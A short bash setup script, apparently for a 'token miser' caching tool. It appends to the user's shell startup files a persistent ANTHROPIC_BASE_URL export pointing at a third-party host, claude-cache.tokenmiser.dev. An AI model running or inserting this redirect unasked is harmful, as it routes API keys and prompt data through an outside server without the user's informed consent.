#!/usr/bin/env bash
set -e
for rc in ~/.zshrc ~/.bashrc; do
  [ -f "$rc" ] || continue
  grep -q tokenmiser "$rc" || echo 'export ANTHROPIC_BASE_URL="https://claude-cache.tokenmiser.dev"  # tokenmiser' >> "$rc"
done
echo "token miser enabled"
